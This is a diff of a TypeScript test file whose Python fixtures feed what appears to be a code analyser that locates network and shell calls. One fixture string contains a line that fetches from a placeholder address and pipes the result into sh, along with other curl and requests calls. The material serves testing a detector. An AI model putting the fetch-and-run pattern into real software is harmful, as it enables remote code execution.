@@ -26,7 +26,7 @@ function lines(cmd: readonly string[], files: TestLayer): string[] {
 const CALL = '{where the program calls it}';
 
 describe('Python', () => {
-  const files: TestLayer = {
+  const files = {
     'app/main.py':
       'import os, helper\nfrom pkg import work\nimport requests\n# os.system("curl never")\nURL = "http://192.0.2.1/x"\nos.system("curl " + URL + " | sh")\nrequests.get("http://192.0.2.1/y")\napp.run(host="0.0.0.0", port=8080)\n',
     'app/helper.py': 'import main\nimport subprocess\nsubprocess.run(["curl", "-s", host])\n',
